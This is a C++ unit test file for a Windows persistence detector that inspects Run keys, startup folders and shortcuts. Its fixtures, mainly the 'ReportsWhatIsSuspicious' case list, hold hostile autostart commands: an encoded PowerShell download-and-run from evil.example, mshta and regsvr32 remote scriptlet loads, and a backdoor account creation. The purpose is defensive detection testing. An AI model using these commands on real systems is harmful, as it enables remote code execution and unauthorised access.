#include <gtest/gtest.h>

#include "collector/base/text.h"
#include "tests/builders/lnk_builder.h"
#include "tests/modules/persistence_cases.h"

namespace hozen {
namespace {

constexpr std::string_view kMachineRun = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run";
constexpr std::string_view kUserRun =
    "HKU\\alice\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
constexpr std::string_view kApproved =
    "HKU\\alice\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\StartupApproved\\";
constexpr std::string_view kStartup =
    "C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\";
constexpr std::string_view kAllUsersStartup =
    "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\";

fake::FakeWindows one_user() {
  fake::FakeWindows windows;
  windows.user("alice");
  windows.program("C:\\Program Files\\Vendor\\agent.exe");
  windows.program("C:\\Users\\alice\\AppData\\Local\\Temp\\a.exe");
  return windows;
}

const fake::Record& record_of(const ModuleRun& run, std::string_view value_name) {
  const auto* record = run.context->record({{"value_name", value_name}});
  EXPECT_NE(record, nullptr) << value_name;
  static const fake::Record none;
  return record != nullptr ? *record : none;
}

TEST(RunKeys, RecordsTheEntryAndWhatItLeadsTo) {
  fake::FakeWindows windows = one_user();
  windows.value(kUserRun, "agent", fake::expand_sz("\"%ProgramFiles%\\Vendor\\agent.exe\" -q"),
                fake::at(60));
  const ModuleRun run = run_module(modules::run_keys, windows);
  const fake::Record& record = record_of(run, "agent");
  EXPECT_EQ(record.kind, "run_key");
  EXPECT_EQ(record["location"], "run");
  EXPECT_EQ(record["key_path"], "HKU\\" + windows.sid_of("alice") +
                                    "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run");
  EXPECT_EQ(record["value_type"], "REG_EXPAND_SZ");
  EXPECT_EQ(record["data"], "\"%ProgramFiles%\\Vendor\\agent.exe\" -q");
  EXPECT_EQ(record["image"], "C:\\Program Files\\Vendor\\agent.exe");
  EXPECT_EQ(record["image_existence"], "exists");
  EXPECT_EQ(record["arguments"], "-q");
  EXPECT_EQ(record["bitness"], "native");
  EXPECT_EQ(record["deleted"], "false");
  EXPECT_EQ(record["target"], "C:\\Program Files\\Vendor\\agent.exe");
  EXPECT_EQ(record.user_name, "alice");
  EXPECT_EQ(record.user_sid, windows.sid_of("alice"));
  ASSERT_EQ(record.timestamps.size(), 1u);
  EXPECT_EQ(record.timestamps[0].first, "key_last_written");
  EXPECT_EQ(record.timestamps[0].second, fake::at(60));
  ASSERT_TRUE(record.artifact.has_value());
  const std::string artifact = record["target_artifact"];
  ASSERT_FALSE(artifact.empty() || artifact == "null");
  const auto& collected = run.context->artifacts.at(std::stoul(artifact));
  EXPECT_EQ(collected.path.text(), "C:\\Program Files\\Vendor\\agent.exe");
  EXPECT_EQ(collected.priority, Priority::high);
  EXPECT_NE(collected.reason.find("run"), std::string::npos);
  EXPECT_EQ(fake::summary_of(run.context->findings), "");
}

TEST(RunKeys, EveryUserAndBothBitnessesAreRead) {
  fake::FakeWindows windows = one_user();
  windows.user("bob");
  const std::string below = "\\Microsoft\\Windows\\CurrentVersion\\Run";
  windows.value("HKLM\\SOFTWARE" + below, "machine", fake::sz("a.exe"))
      .value("HKLM\\SOFTWARE\\WOW6432Node" + below, "machine32", fake::sz("a.exe"))
      .value("HKU\\alice\\Software" + below, "alice", fake::sz("a.exe"))
      .value("HKU\\bob\\Software\\WOW6432Node" + below, "bob32", fake::sz("a.exe"))
      .value("HKU\\.DEFAULT\\Software" + below, "system", fake::sz("a.exe"));
  const ModuleRun run = run_module(modules::run_keys, windows);
  EXPECT_EQ(record_of(run, "machine")["bitness"], "native");
  EXPECT_EQ(record_of(run, "machine32")["bitness"], "wow64");
  EXPECT_EQ(record_of(run, "alice").user_name, "alice");
  EXPECT_EQ(record_of(run, "bob32")["bitness"], "wow64");
  EXPECT_EQ(record_of(run, "system").user_sid, "S-1-5-18");
}

TEST(RunKeys, OrdinaryEntriesStayAtLow) {
  fake::FakeWindows windows = one_user();
  for (const auto* command :
       {"\"C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background",
        "C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart "
        "\"Teams.exe\"",
        "C:\\Program Files\\Google\\Chrome\\chrome.exe --no-startup-window",
        "rundll32.exe C:\\Windows\\system32\\NvCpl.dll,NvStartup",
        "C:\\Windows\\system32\\cmd.exe /q /c rmdir /s /q "
        "\"C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\1.2\"",
        "C:\\ProgramData\\Vendor\\updater.exe"})
    windows.value(kUserRun, command, fake::sz(command));
  const ModuleRun run = run_module(modules::run_keys, windows);
  EXPECT_EQ(run.context->records.size(), 7u);  // with SecurityHealth
  for (const auto& finding : run.context->findings)
    EXPECT_LE(severity_of(finding), Severity::low) << fake::summary_of(run.context->findings);
}

TEST(RunKeys, ReportsAProgramInTemp) {
  fake::FakeWindows windows = one_user();
  windows.value(kUserRun, "a", fake::sz("C:\\Users\\alice\\AppData\\Local\\Temp\\a.exe"));
  const ModuleRun run = run_module(modules::run_keys, windows);
  ASSERT_EQ(run.context->findings.size(), 1u);
  const Finding& finding = run.context->findings[0];
  EXPECT_EQ(finding.rule, "run_keys.writable_location");
  EXPECT_EQ(severity_of(finding), Severity::low);
  EXPECT_EQ(finding.why.at(0).records, std::vector<std::string>{record_of(run, "a").id});
  EXPECT_FALSE(finding.not_checked.empty());
  EXPECT_TRUE(run.context->has_collected("C:\\Users\\alice\\AppData\\Local\\Temp\\a.exe"));
}

struct SuspiciousCase {
  const char* name;
  const char* command;
  const char* rule;
  Severity severity;
};

TEST(RunKeys, ReportsWhatIsSuspicious) {
  const SuspiciousCase cases[] = {
      {"UpdateSvc", "C:\\TMP\\p.exe -s \\\\10.34.2.3 'net user' > C:\\TMP\\o2.txt", "remote_target",
       Severity::medium},
      {"x",
       "powershell.exe -nop -w hidden -enc "
       "SQBFAFgAIAAoAEkAVwBSACAAaAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQAvAGEAKQA=",
       "powershell_evasion", Severity::high},
      {"x", "mshta.exe http://evil.example/a.hta", "remote_target", Severity::medium},
      {"x", "C:\\Users\\alice\\AppData\\Roaming\\svchost.exe", "system_name_elsewhere",
       Severity::medium},
      {"x", "rundll32.exe C:\\Users\\Public\\x.dat,Run", "data_file_executed", Severity::medium},
      {"Windows Update", "C:\\ProgramData\\wu.exe", "borrowed_name", Severity::low},
      {"x", "C:\\Program Files\\Vendor\\agent.exe:evil.exe", "alternate_stream", Severity::medium},
      {"x",
       "C:\\Windows\\System32\\cmd.exe /c "
       "C:\\Users\\Public\\%PROCESSOR_ARCHITECTURE:~-10,0%e.exe",
       "obfuscated_command", Severity::medium},
      {"x", "cmd.exe /c C:\\Users\\Public\\%NONE:~-10,0%e.exe", "obfuscated_command",
       Severity::low},
      {"x", "cmd.exe /c net user evil P@ss1 /add", "account_added", Severity::medium},
      {"x", "regsvr32.exe /s /n /u /i:http://evil.example/x.sct scrobj.dll", "remote_target",
       Severity::medium},
  };
  for (const auto& one : cases) {
    fake::FakeWindows windows = one_user();
    for (const auto* path : {"C:\\TMP\\p.exe", "C:\\Users\\alice\\AppData\\Roaming\\svchost.exe",
                             "C:\\Users\\Public\\x.dat", "C:\\ProgramData\\wu.exe",
                             "C:\\Windows\\System32\\scrobj.dll", "C:\\Users\\Public\\e.exe"})
      windows.program(path);
    windows.value(kUserRun, one.name, fake::sz(one.command));
    const ModuleRun run = run_module(modules::run_keys, windows);
    ASSERT_EQ(run.context->findings.size(), 1u) << one.command;
    const std::string summary = fake::summary_of(run.context->findings);
    EXPECT_EQ(run.context->findings[0].rule, "run_keys." + std::string{one.rule}) << summary;
    EXPECT_EQ(to_text(severity_of(run.context->findings[0])), to_text(one.severity)) << summary;
  }
}

TEST(RunKeys, APartOfAVariableLeadsToTheFileAndIsNoStream) {
  fake::FakeWindows windows = one_user();
  windows.program("C:\\Users\\Public\\e.exe");
  windows.value(kUserRun, "known",
                fake::sz("cmd.exe /c C:\\Users\\Public\\%PROCESSOR_ARCHITECTURE:~-10,0%e.exe"));
  windows.value(kUserRun, "unknown", fake::sz("cmd.exe /c C:\\Users\\Public\\%NONE:~-10,0%e.exe"));
  const ModuleRun run = run_module(modules::run_keys, windows);
  EXPECT_EQ(record_of(run, "known")["target"], "C:\\Users\\Public\\e.exe");
  EXPECT_TRUE(run.context->has_collected("C:\\Users\\Public\\e.exe"));
  ASSERT_EQ(run.context->findings.size(), 2u);
  for (const auto& finding : run.context->findings) {
    for (const auto& why : finding.why)
      EXPECT_EQ(why.fact.find("stream"), std::string::npos) << why.fact;
    EXPECT_EQ(std::count(finding.attack.begin(), finding.attack.end(), "T1027.010"), 1);
  }
}

TEST(RunKeys, PlacesThatOnlyOldOrHostileSoftwareUses) {
  fake::FakeWindows windows = one_user();
  windows.value("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunServices", "x",
                fake::sz("C:\\Program Files\\Vendor\\agent.exe"));
  const ModuleRun run = run_module(modules::run_keys, windows);
  ASSERT_EQ(run.context->findings.size(), 1u);
  EXPECT_EQ(run.context->findings[0].rule, "run_keys.run_services");
  EXPECT_EQ(severity_of(run.context->findings[0]), Severity::low);
}

TEST(RunKeys, RunOnceExNamesLibrariesAndCommands) {
  const std::string key = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnceEx";
  fake::FakeWindows windows = one_user();
  windows.program("C:\\Program Files\\Vendor\\x.dll");
  windows.value(key, "Title", fake::sz("Setup"))
      .value(key + "\\0001", "1", fake::sz("C:\\Program Files\\Vendor\\x.dll|Register|args"))
      .value(key + "\\0001", "2", fake::sz("||C:\\Program Files\\Vendor\\agent.exe -x"))
      .value(key + "\\0001\\Depend", "3", fake::sz("C:\\Program Files\\Vendor\\x.dll"));
  const ModuleRun run = run_module(modules::run_keys, windows);
  EXPECT_EQ(record_of(run, "1")["target"], "C:\\Program Files\\Vendor\\x.dll");
  EXPECT_EQ(record_of(run, "2")["target"], "C:\\Program Files\\Vendor\\agent.exe");
  EXPECT_EQ(record_of(run, "3")["location"], "run_once_ex_depend");
  EXPECT_EQ(fake::summary_of(run.context->findings), "run_keys.run_once_ex_depend low 15 " + key +
                                                         "\\0001\\Depend\\3 -> "
                                                         "C:\\Program Files\\Vendor\\x.dll\n");
}

TEST(RunKeys, ExplorersSwitchIsRead) {
  // 03: switched off; then the time when (2024-03-01T12:00:00Z, the fake machine's).
  std::vector<std::byte> off(12);
  off[0] = std::byte{3};
  for (std::size_t i = 0; i < 8; ++i)
    off[4 + i] = static_cast<std::byte>(fake::default_time().ticks >> (8 * i) & 0xFF);
  std::vector<std::byte> on(12);
  on[0] = std::byte{2};
  fake::FakeWindows windows = one_user();
  windows.value(kUserRun, "Off", fake::sz("a.exe")).value(kUserRun, "On", fake::sz("a.exe"));
  windows.value(kUserRun, "Never", fake::sz("a.exe"));
  windows.value(std::string{kApproved} + "Run", "off", fake::binary(off))
      .value(std::string{kApproved} + "Run", "On", fake::binary(on))
      .value(std::string{kApproved} + "StartupFolder", "b.exe", fake::binary(off));
  windows.program(std::string{kStartup} + "b.exe");
  const ModuleRun run = run_module(modules::run_keys, windows);
  EXPECT_EQ(record_of(run, "Off")["enabled"], "false");
  ASSERT_EQ(record_of(run, "Off").timestamps.size(), 2u);
  EXPECT_EQ(record_of(run, "Off").timestamps[1].first, "disabled");
  EXPECT_EQ(record_of(run, "Off").timestamps[1].second, fake::default_time());
  EXPECT_EQ(record_of(run, "On")["enabled"], "true");
  EXPECT_EQ(record_of(run, "Never")["enabled"], "null");
  const auto* item = run.context->record({{"path", std::string{kStartup} + "b.exe"}});
  ASSERT_NE(item, nullptr);
  EXPECT_EQ((*item)["enabled"], "false");
}

TEST(RunKeys, StartupFoldersOfUserAndMachine) {
  fake::FakeWindows windows = one_user();
  windows.program(std::string{kStartup} + "own.exe");
  windows.file(std::string{kStartup} + "desktop.ini", "[.ShellClassInfo]");
  windows.file(std::string{kAllUsersStartup} + "all.bat", "@echo off");
  windows.file(std::string{kAllUsersStartup} + "site.url",
               "[InternetShortcut]\r\nURL=file:///C:/Program%20Files/Vendor/agent.exe\r\n");
  const ModuleRun run = run_module(modules::run_keys, windows);
  const auto* own = run.context->record({{"path", std::string{kStartup} + "own.exe"}});
  ASSERT_NE(own, nullptr);
  EXPECT_EQ(own->kind, "startup_item");
  EXPECT_EQ((*own)["location"], "startup_folder_user");
  EXPECT_EQ(own->user_name, "alice");
  EXPECT_EQ((*own)["target"], std::string{kStartup} + "own.exe");
  const auto* all = run.context->record({{"path", std::string{kAllUsersStartup} + "all.bat"}});
  ASSERT_NE(all, nullptr);
  EXPECT_EQ((*all)["location"], "startup_folder_all_users");
  EXPECT_EQ(all->user_name, "");
  EXPECT_NE(run.context->record({{"command_line", "file:///C:/Program%20Files/Vendor/agent.exe"}}),
            nullptr);
  EXPECT_EQ(run.context->record({{"path", std::string{kStartup} + "desktop.ini"}}), nullptr);
  EXPECT_TRUE(run.context->has_collected(std::string{kStartup} + "own.exe"));
}

fake::Entry& shortcut(fake::FakeWindows& windows, std::string_view name,
                      const builders::LnkBytes& bytes) {
  fake::Entry& entry = windows.file(std::string{kStartup} + std::string{name}, "");
  entry.bytes = bytes;
  return entry;
}

TEST(RunKeys, AShortcutLeadsToItsTargetWithItsArguments) {
  fake::FakeWindows windows = one_user();
  windows.program("C:\\TMP\\evil.dll");
  shortcut(windows, "plain.lnk",
           builders::LnkBuilder{}
               .local_path("C:\\Program Files\\Vendor\\agent.exe")
               .arguments("-q")
               .bytes());
  shortcut(windows, "host.lnk",
           builders::LnkBuilder{}
               .local_path("C:\\Windows\\System32\\rundll32.exe")
               .arguments("C:\\TMP\\evil.dll,Run")
               .bytes());
  const ModuleRun run = run_module(modules::run_keys, windows);
  const auto* plain = run.context->record({{"path", std::string{kStartup} + "plain.lnk"}});
  ASSERT_NE(plain, nullptr);
  EXPECT_EQ((*plain)["command_line"], "\"C:\\Program Files\\Vendor\\agent.exe\" -q");
  EXPECT_EQ((*plain)["target"], "C:\\Program Files\\Vendor\\agent.exe");
  const auto* host = run.context->record({{"path", std::string{kStartup} + "host.lnk"}});
  ASSERT_NE(host, nullptr);
  EXPECT_EQ((*host)["target"], "C:\\TMP\\evil.dll");
  EXPECT_EQ((*host)["export_name"], "Run");
  EXPECT_TRUE(run.context->has_collected("C:\\TMP\\evil.dll"));
  ASSERT_EQ(run.context->findings.size(), 1u) << fake::summary_of(run.context->findings);
  EXPECT_NE(run.context->findings[0].subject.find("host.lnk"), std::string::npos);
}

TEST(RunKeys, DataBehindAShortcutIsAFindingAndADamagedOneANote) {
  fake::FakeWindows windows = one_user();
  auto bytes = builders::LnkBuilder{}.local_path("C:\\Program Files\\Vendor\\agent.exe").bytes();
  const auto whole = bytes;
  bytes.insert(bytes.end(), 5000, std::byte{0x4D});
  shortcut(windows, "long.lnk", bytes);
  shortcut(windows, "whole.lnk", whole);
  shortcut(windows, "damaged.lnk", builders::LnkBytes(10));
  const ModuleRun run = run_module(modules::run_keys, windows);
  std::vector<std::string> payloads;
  for (const auto& finding : run.context->findings)
    if (finding.rule == "run_keys.shortcut_payload") payloads.push_back(finding.subject);
  ASSERT_EQ(payloads.size(), 1u) << fake::summary_of(run.context->findings);
  EXPECT_NE(payloads[0].find("long.lnk"), std::string::npos);
  ASSERT_EQ(run.context->notes.size(), 1u);
  EXPECT_NE(run.context->notes[0].what.find("damaged.lnk"), std::string::npos);
  EXPECT_NE(run.context->record({{"path", std::string{kStartup} + "damaged.lnk"}}), nullptr);
}

TEST(RunKeys, ARedirectedStartupFolderIsAFindingAndIsRead) {
  const std::string key =
      "HKU\\alice\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders";
  fake::FakeWindows windows = one_user();
  windows.value(
      key, "Startup",
      fake::expand_sz(
          "%USERPROFILE%\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"));
  EXPECT_EQ(fake::summary_of(run_module(modules::run_keys, windows).context->findings), "");
  windows.value(key, "Startup", fake::expand_sz("C:\\ProgramData\\st"));
  windows.program("C:\\ProgramData\\st\\x.exe");
  const ModuleRun run = run_module(modules::run_keys, windows);
  EXPECT_NE(run.context->finding("run_keys.startup_folder_redirect"), nullptr);
  const auto* item = run.context->record({{"path", "C:\\ProgramData\\st\\x.exe"}});
  ASSERT_NE(item, nullptr);
  EXPECT_EQ(item->user_name, "alice");
}

TEST(RunKeys, RecoveredValuesAreRecords) {
  fake::FakeWindows windows = one_user();
  windows.value(kUserRun, "kept", fake::sz("a.exe"));
  windows.deleted_value(kUserRun, "gone",
                        fake::sz("C:\\Users\\alice\\AppData\\Local\\Temp\\a.exe"));
  const ModuleRun run = run_module(modules::run_keys, windows);
  EXPECT_EQ(record_of(run, "gone")["deleted"], "true");
  ASSERT_EQ(run.context->findings.size(), 1u);
  EXPECT_TRUE(run.context->findings[0].title.starts_with("Deleted value: "));
  EXPECT_EQ(severity_of(run.context->findings[0]), Severity::low);
}

TEST(RunKeys, NamesAndDataHiddenBehindNulAreFindings) {
  fake::FakeWindows windows = one_user();
  windows.value(kUserRun, std::string_view{"\0evil", 5},
                fake::sz("C:\\Program Files\\Vendor\\agent.exe"));
  windows.value(
      kMachineRun, "tail",
      fake::sz(std::string{"C:\\Program Files\\Vendor\\agent.exe"} + '\0' + "hidden script"));
  const ModuleRun run = run_module(modules::run_keys, windows);
  const Finding* name = run.context->finding("run_keys.hidden_value_name");
  ASSERT_NE(name, nullptr);
  EXPECT_EQ(severity_of(*name), Severity::medium);
  EXPECT_NE(run.context->finding("run_keys.hidden_data"), nullptr);
  EXPECT_EQ(record_of(run, "tail")["hidden_data"], "hidden script");
}

TEST(RunKeys, AScriptKeptInTheValueIsAFinding) {
  fake::FakeWindows windows = one_user();
  windows.value(kUserRun, "x",
                fake::sz("C:\\Program Files\\Vendor\\agent.exe " + std::string(300, 'a')));
  const ModuleRun run = run_module(modules::run_keys, windows);
  ASSERT_EQ(run.context->findings.size(), 1u);
  EXPECT_EQ(run.context->findings[0].rule, "run_keys.long_command");
}

TEST(RunKeys, ThousandsOfValuesAreRead) {
  fake::FakeWindows windows = one_user();
  for (int i = 0; i < 3000; ++i)
    windows.value(kUserRun, "v" + std::to_string(i),
                  fake::sz("C:\\Program Files\\Vendor\\agent.exe"));
  const ModuleRun run = run_module(modules::run_keys, windows);
  EXPECT_EQ(run.context->records.size(), 3001u);
  EXPECT_EQ(run.context->artifacts.size(), 1u + 1u);  // agent.exe, SecurityHealthSystray.exe
}

TEST(RunKeys, AFileIsMissingOnlyWhereItsFolderOrVolumeIsHeld) {
  fake::FakeWindows windows;
  windows.user("alice");
  windows.value(kUserRun, "a", fake::sz("C:\\Program Files\\Gone\\gone.exe"));
  const ModuleRun whole = run_module(modules::run_keys, windows);
  EXPECT_EQ(record_of(whole, "a")["image_existence"], "missing");

  fake::Machine copy = windows.machine();  // the hives alone, as a copied folder holds them
  copy.source->remove(*EvidencePath::parse("C:\\Windows\\System32\\ntdll.dll"));
  fake::Context context{copy};
  ASSERT_TRUE(modules::run_keys.run(context).has_value());
  const auto* record = context.record({{"value_name", "a"}});
  ASSERT_NE(record, nullptr);
  EXPECT_EQ((*record)["image_existence"], "unknown");
  EXPECT_EQ(fake::summary_of(context.findings), "");
}

TEST(RunKeys, ASourceWithoutARegistryGivesNothing) {
  fake::FakeSource source;
  fake::Context context{source, nullptr};
  EXPECT_TRUE(modules::run_keys.run(context).has_value());
  EXPECT_TRUE(context.records.empty());
}

TEST(RunKeys, EveryCommandOfALineIsRecordedJudgedAndPreserved) {
  const std::string evil = "C:\\Users\\Public\\evil.exe";
  for (const std::string& line :
       {std::string{"cmd /c \"C:\\Program Files\\Vendor\\agent.exe\" && "} + evil,
        "cmd /c schtasks /run /tn x & " + evil, "powershell -c \"Get-Date; & '" + evil + "'\"",
        "cmd /c C:\\Program Files\\Vendor\\agent.exe | cmd /c (echo a & " + evil + ")"}) {
    fake::FakeWindows windows = one_user();
    windows.program(evil);
    windows.value(kUserRun, "x", fake::sz(line));
    const ModuleRun run = run_module(modules::run_keys, windows);
    const fake::Record& record = record_of(run, "x");
    EXPECT_NE(record["other_targets"].find("C:\\\\Users\\\\Public\\\\evil.exe"), std::string::npos)
        << record["other_targets"];
    EXPECT_NE(record["other_existence"].find("exists"), std::string::npos);
    EXPECT_TRUE(run.context->has_collected(evil)) << line;
    ASSERT_EQ(run.context->findings.size(), 1u) << line;
    const auto& why = run.context->findings[0].why;
    EXPECT_TRUE(std::any_of(why.begin(), why.end(), [&](const Why& one) {
      return one.fact.find("'" + evil + "' lies in") != std::string::npos;
    })) << line;
  }
}

TEST(RunKeys, ProgramsHiddenBehindManyShellsAreAFindingOfTheirOwn) {
  fake::FakeWindows windows = one_user();
  for (const int depth : {10, 100}) {
    std::string line = "C:\\Program Files\\Vendor\\agent.exe";
    for (int i = 0; i < depth; ++i) line.insert(0, "cmd /c ");
    windows.value(kUserRun, "x", fake::sz(line));
    const ModuleRun run = run_module(modules::run_keys, windows);
    ASSERT_EQ(run.context->findings.size(), 1u) << depth;
    EXPECT_EQ(run.context->findings[0].rule, "run_keys.nested_commands");
    EXPECT_GE(severity_of(run.context->findings[0]), Severity::medium);
    EXPECT_TRUE(run.context->has_collected("C:\\Program Files\\Vendor\\agent.exe")) << depth;
  }
}

TEST(RunKeys, ATimeIsSaidToBeTheKeys) {
  fake::FakeWindows windows = one_user();
  windows.value(kUserRun, "x", fake::sz("C:\\Program Files\\Vendor\\gone.exe"));
  const ModuleRun run = run_module(modules::run_keys, windows);
  ASSERT_EQ(run.context->findings.size(), 1u);
  EXPECT_EQ(run.context->findings[0].why.at(0).fact,
            "'C:\\Program Files\\Vendor\\gone.exe' does not exist, and the key was last written on "
            "2024-03-01T12:00:00.0000000Z.");
}

TEST(RunKeys, AStartupFileIsTakenByItsNameAsStored) {
  for (const std::string& name :
       std::vector<std::string>{"trail.", "trail. ", "trail ", "plain", "x.exe"}) {
    fake::FakeWindows windows = one_user();
    const std::string path = std::string{kStartup} + name;
    windows.program(path);
    const ModuleRun run = run_module(modules::run_keys, windows);
    const auto* record = run.context->record({{"location", "startup_folder_user"}});
    ASSERT_NE(record, nullptr) << name;
    EXPECT_EQ((*record)["image"], path);
    EXPECT_EQ((*record)["target"], path);
    EXPECT_EQ((*record)["image_existence"], "exists") << path;
    EXPECT_TRUE(run.context->has_collected(path));
    const bool trailing = name.starts_with("trail");
    EXPECT_EQ((*record)["flags"].find("trailing_dot_or_space") != std::string::npos, trailing);
    const auto* finding = run.context->finding("run_keys.deceptive_name");
    EXPECT_EQ(finding != nullptr, trailing) << path;
  }
}

TEST(RunKeys, ALinkInAStartupFolderIsRecordedAndNotFollowed) {
  for (const bool listed_as_folder : {false, true}) {
    fake::FakeWindows windows = one_user();
    fake::Entry& entry = windows.file(std::string{kStartup} + "link", "");
    entry.facts.is_link = true;
    entry.facts.is_directory = listed_as_folder;
    entry.facts.link_target = "\\??\\C:\\Users\\Public\\evil.exe";
    const ModuleRun run = run_module(modules::run_keys, windows);
    const auto* record = run.context->record({{"location", "startup_folder_user"}});
    ASSERT_NE(record, nullptr);
    EXPECT_EQ(record->kind, "startup_item");
    EXPECT_EQ((*record)["path"], std::string{kStartup} + "link");
    EXPECT_EQ(record->json_of("link_target"), R"("\\??\\C:\\Users\\Public\\evil.exe")");
    EXPECT_EQ(record->json_of("image"), "null");
    EXPECT_FALSE(run.context->has_collected(std::string{kStartup} + "link"));
    EXPECT_TRUE(run.context->notes.empty());
    const auto* finding = run.context->finding("run_keys.linked_file");
    ASSERT_NE(finding, nullptr);
    EXPECT_EQ(severity_of(*finding), Severity::low);
  }
}

TEST(RunKeys, DataThatAreCutSaySoAndLengthsAreTheWholeOnes) {
  fake::FakeWindows windows = one_user();
  std::string line = "\"C:\\Program Files\\Vendor\\agent.exe\" ";
  while (line.size() < 200'000) line += "\u00E9";
  windows.value(kUserRun, "big", fake::sz(line))
      .value(kUserRun, "many", fake::multi_sz(std::vector<std::string>(9'000, "abcd")))
      .value(kUserRun, "small", fake::sz("C:\\Program Files\\Vendor\\agent.exe"));
  const ModuleRun run = run_module(modules::run_keys, windows);
  const std::uint64_t characters = utf16_length(line);
  const fake::Record& big = record_of(run, "big");
  EXPECT_EQ(big["data_size_bytes"], std::to_string(2 * (characters + 1)));
  EXPECT_EQ(big["data_cut"], "true");
  EXPECT_EQ(big["command_line_cut"], "true");
  EXPECT_EQ(big["command_line_characters"], std::to_string(characters));
  EXPECT_LE(big["data"].size(), 32'768u);
  const fake::Record& small = record_of(run, "small");
  EXPECT_EQ(small["data_cut"], "false");
  EXPECT_EQ(small["command_line_cut"], "false");
  EXPECT_EQ(small["command_line_characters"], "33");
  EXPECT_EQ(record_of(run, "many")["data_cut"], "true");
  const auto* finding = run.context->finding("run_keys.long_command");
  ASSERT_NE(finding, nullptr);
  EXPECT_NE(finding->why.at(0).fact.find(std::to_string(characters) + " characters"),
            std::string::npos)
      << finding->why.at(0).fact;
  // The list is longer than what is looked at of one value.
  EXPECT_EQ(run.context->notes.size(), 1u);
}

}  // namespace
}  // namespace hozen
